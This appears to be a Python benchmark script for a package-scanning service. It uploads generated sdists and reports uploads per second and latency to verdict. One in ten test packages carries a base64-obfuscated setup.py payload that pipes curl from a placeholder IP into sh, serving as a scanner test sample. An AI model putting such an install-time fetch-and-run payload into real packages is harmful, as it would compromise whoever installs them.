#!/usr/bin/env python3
"""Load figures for the review service: uploads per second and time to verdict.

A script that prints figures, not a timed test. Run from the repository root::

    .venv/bin/python benchmarks/bench_service.py                      # SQLite and PostgreSQL
    .venv/bin/python benchmarks/bench_service.py --uploads 100 --db sqlite
    .venv/bin/python benchmarks/bench_service.py --db postgresql://postgres@127.0.0.1/test

For each database the script starts ``capwatch serve`` as its own process (one scan worker per
core unless ``--workers``), on a fresh database (SQLite in a temporary directory; for PostgreSQL a
new database created on the given server and dropped at the end), creates an uploader token, and
then ``--clients`` threads upload ``--uploads`` distinct small packages built in memory (one in
ten malicious: a ``setup.py`` that would pipe curl into sh if it were ever run; it never is)
through the HTTP API with ``wait=10``. For each upload the time from sending it to knowing its
verdict is taken (the upload's answer, or polling ``GET /api/v1/scans/{id}`` when the wait ran
out). Printed: uploads per second sustained over the whole run, and p50 / p99 / max of time to
verdict.
"""

from __future__ import annotations

import argparse
import base64
import io
import os
import signal
import socket
import statistics
import subprocess
import sys
import tarfile
import tempfile
import threading
import time
import uuid
from dataclasses import dataclass

import httpx

DEFAULT_PG = "postgresql://postgres@127.0.0.1:5432/test"


def sdist(name: str, version: str, malicious: bool) -> bytes:
    if malicious:
        blob = base64.b64encode(b"import os\nos.system('curl http://203.0.113.9/a | sh')\n").decode()
        setup = f"import base64\nexec(base64.b64decode('{blob}'))\n"
    else:
        setup = "from setuptools import setup\n"
    setup += f"setup(name='{name}', version='{version}')\n"
    files = {
        "setup.py": setup,
        f"{name}/__init__.py": "import json\n\ndef load(p):\n    return json.load(open(p))\n",
        "PKG-INFO": f"Metadata-Version: 2.1\nName: {name}\nVersion: {version}\n",
    }
    buffer = io.BytesIO()
    with tarfile.open(fileobj=buffer, mode="w:gz") as tar:
        for path, text in files.items():
            data = text.encode()
            info = tarfile.TarInfo(f"{name}-{version}/{path}")
            info.size = len(data)
            tar.addfile(info, io.BytesIO(data))
    return buffer.getvalue()


def free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


@dataclass
class Figures:
    label: str
    uploads: int
    seconds: float
    latencies: list[float]
    verdicts: dict[str, int]

    def line(self) -> str:
        lat = sorted(self.latencies)
        p99 = lat[min(len(lat) - 1, round(0.99 * (len(lat) - 1)))]
        return (
            f"{self.label:<11} {self.uploads:>7} {self.uploads / self.seconds:>10.1f} "
            f"{statistics.median(lat) * 1000:>9.0f} {p99 * 1000:>9.0f} {lat[-1] * 1000:>9.0f}   "
            + ", ".join(f"{k} {v}" for k, v in sorted(self.verdicts.items()))
        )


def run(label: str, db_url: str | None, args: argparse.Namespace) -> Figures:
    capwatch = [sys.executable, "-m", "capwatch"]
    with tempfile.TemporaryDirectory(prefix="capwatch-bench-") as tmp:
        db = ["--db", db_url] if db_url else []
        token = subprocess.run(
            [*capwatch, "admin", "create-token", "--role", "uploader", "--name", "bench",
             "--data-dir", tmp, *db], check=True, capture_output=True, text=True,
        ).stdout.strip()
        port = free_port()
        server = subprocess.Popen(
            [*capwatch, "serve", "--port", str(port), "--data-dir", tmp, *db,
             "-j", str(args.workers)],
            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
        )
        base = f"http://127.0.0.1:{port}"
        try:
            deadline = time.monotonic() + 60
            while True:
                try:
                    if httpx.get(base + "/openapi.json", timeout=2).status_code == 200:
                        break
                except httpx.TransportError:
                    pass
                if time.monotonic() > deadline or server.poll() is not None:
                    raise SystemExit(f"{label}: capwatch serve did not start")
                time.sleep(0.2)
            run_id = uuid.uuid4().hex[:6]
            packages = [
                (f"b{run_id}p{i}", sdist(f"b{run_id}p{i}", "1.0", i % 10 == 0))
                for i in range(args.uploads)
            ]
            latencies: list[float] = []
            verdicts: dict[str, int] = {}
            lock = threading.Lock()
            queue = list(reversed(packages))

            def client() -> None:
                headers = {"Authorization": f"Bearer {token}"}
                with httpx.Client(base_url=base, headers=headers, timeout=60) as http:
                    while True:
                        with lock:
                            if not queue:
                                return
                            name, data = queue.pop()
                        started = time.perf_counter()
                        body = http.post(
                            "/api/v1/uploads", params={"wait": 10},
                            files={"file": (f"{name}-1.0.tar.gz", data)},
                        ).json()
                        while body["status"] not in ("done", "error"):
                            time.sleep(0.05)
                            body = http.get(f"/api/v1/scans/{body['id']}").json()
                        elapsed = time.perf_counter() - started
                        with lock:
                            latencies.append(elapsed)
                            verdicts[body["verdict"]] = verdicts.get(body["verdict"], 0) + 1

            started = time.perf_counter()
            threads = [threading.Thread(target=client) for _ in range(args.clients)]
            for t in threads:
                t.start()
            for t in threads:
                t.join()
            seconds = time.perf_counter() - started
        finally:
            server.send_signal(signal.SIGINT)
            try:
                server.wait(timeout=30)
            except subprocess.TimeoutExpired:
                server.kill()
    return Figures(label, len(latencies), seconds, latencies, verdicts)


def pg_database(server_url: str) -> tuple[str, str]:
    import psycopg

    name = f"capwatch_bench_{uuid.uuid4().hex[:8]}"
    with psycopg.connect(server_url, autocommit=True) as conn:
        conn.execute(f'CREATE DATABASE "{name}"')
    return name, server_url.rsplit("/", 1)[0] + "/" + name


def drop_pg(server_url: str, name: str) -> None:
    import psycopg

    with psycopg.connect(server_url, autocommit=True) as conn:
        conn.execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')


def main() -> int:
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--uploads", type=int, default=300, help="uploads per database (300)")
    parser.add_argument("--clients", type=int, default=8, help="concurrent uploaders (8)")
    parser.add_argument("--workers", type=int, default=0,
                        help="scan worker processes (default: one per core)")
    parser.add_argument(
        "--db", action="append", default=[],
        help="'sqlite' or a PostgreSQL server URL (repeatable; default: sqlite and "
        f"{DEFAULT_PG} when reachable)",
    )
    args = parser.parse_args()
    targets = args.db or ["sqlite", DEFAULT_PG]
    print(f"{args.uploads} small sdists per database, {args.clients} clients, "
          f"{args.workers or os.cpu_count()} scan workers on {os.cpu_count()} cores")
    print(f"{'database':<11} {'uploads':>7} {'uploads/s':>10} {'p50 ms':>9} {'p99 ms':>9} "
          f"{'max ms':>9}   verdicts")
    for target in targets:
        if target == "sqlite":
            print(run("sqlite", None, args).line(), flush=True)
            continue
        try:
            name, url = pg_database(target)
        except Exception as exc:
            print(f"postgresql  skipped: {target} not reachable ({exc})")
            continue
        try:
            print(run("postgresql", url, args).line(), flush=True)
        finally:
            drop_pg(target, name)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
